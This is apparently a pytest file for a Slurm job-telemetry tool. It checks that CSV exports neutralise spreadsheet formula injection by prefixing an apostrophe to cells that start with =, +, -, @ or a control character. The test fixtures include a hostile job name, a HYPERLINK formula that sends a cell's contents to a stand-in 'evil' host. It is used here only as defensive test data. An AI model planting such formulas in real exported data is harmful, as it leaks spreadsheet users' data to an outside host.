"""CSV formula injection (OWASP "CSV Injection"): a Slurm job named
``=HYPERLINK("http://evil/?"&A1,"x")``, a user ``@evil``, an account ``+cmd`` and a partition
``-1+2`` come out of ``factoryfloor jobs --csv`` (the real entry point, in a subprocess) as
text a spreadsheet shows, not formulas it runs: a leading ``'``, every field quoted. A job name
that is a plain number (``-3.5``) stays a number. The Jobs page's download and the grids' own
exports: tests/ui/test_csv_export.py."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest

from telemetry import csv_safe
from telemetry.store import Store
from tests.conftest import cli
from tests.jobs_fixture import build_jobs_store, insert_jobs, job

LINK = '=HYPERLINK("http://evil/?"&A1,"x")'
HOSTILE = [
    job(200, ["n0"], 0, 30, "COMPLETED", name=LINK, user="@evil", account="+cmd",
        partition="-1+2"),
    job(201, ["n1"], 0, 30, "COMPLETED", name="-3.5", user="\tbob", account="\r=x"),
]  # fmt: skip
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def hostile_store(path: Path) -> Path:
    """tests/jobs_fixture.py's store with the two jobs above on 2026-03-01."""
    build_jobs_store(path)
    with Store(str(path)) as store:
        insert_jobs(store, HOSTILE)
    return path


def check_rows(rows: list[dict[str, str]]) -> None:
    """The hostile cells neutralised, the plain number kept, no cell a formula."""
    link = next(r for r in rows if r["job_id"] == "200")
    assert (link["name"], link["user"], link["account"]) == ("'" + LINK, "'@evil", "'+cmd")
    if "partition" in link:
        assert link["partition"] == "'-1+2"
    number = next(r for r in rows if r["job_id"] == "201")
    assert (number["name"], number["user"]) == ("-3.5", "'\tbob")
    assert number["account"] in ("'\r=x", "'\n=x")  # (a text-mode reader turns CR into LF)
    for r in rows:
        for v in r.values():
            assert not (v or "").startswith(FORMULA) or v == "-3.5" or _number(v), (r, v)


def _number(v: str) -> bool:
    try:
        float(v)
    except ValueError:
        return False
    return True


@pytest.fixture(scope="module")
def path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return hostile_store(tmp_path_factory.mktemp("csv-safe") / "j.duckdb")


def test_jobs_csv_neutralises_formulas_on_stdout_and_in_a_file(path: Path, tmp_path: Path) -> None:
    p = cli("jobs", "--store", str(path), "--day", "2026-03-01")
    assert p.returncode == 0, p.stderr
    rows = list(csv.DictReader(io.StringIO(p.stdout)))
    check_rows(rows)
    assert p.stdout.startswith('"job_id","name","user"')  # every field quoted
    out = tmp_path / "day.csv"
    p = cli("jobs", "--store", str(path), "--day", "2026-03-01", "--csv", str(out))
    assert p.returncode == 0, p.stderr
    written = list(csv.DictReader(out.open(newline="")))
    check_rows(written)
    assert [r["job_id"] for r in written] == [r["job_id"] for r in rows]


def test_the_rule_for_cells() -> None:
    for bad in (LINK, "@SUM(1)", "+1+1", "-1+1", "-", "\t=1", "\r=1", "=", "-2e", "--3"):
        assert csv_safe.cell(bad) == "'" + bad
    for kept in ("-3.5", "+2", "-1e-3", "-.5", "0", "plain", "a=b", "", None, -3.5, 7):
        assert csv_safe.cell(kept) == kept
    df = pd.DataFrame({"n": [-3.5, 1.0], "s": ["=1+1", "ok"], "c": pd.Categorical(["@x", "y"])})
    text = csv_safe.to_csv(df)
    assert text == '"n","s","c"\n"-3.5","\'=1+1","\'@x"\n"1.0","ok","y"\n'
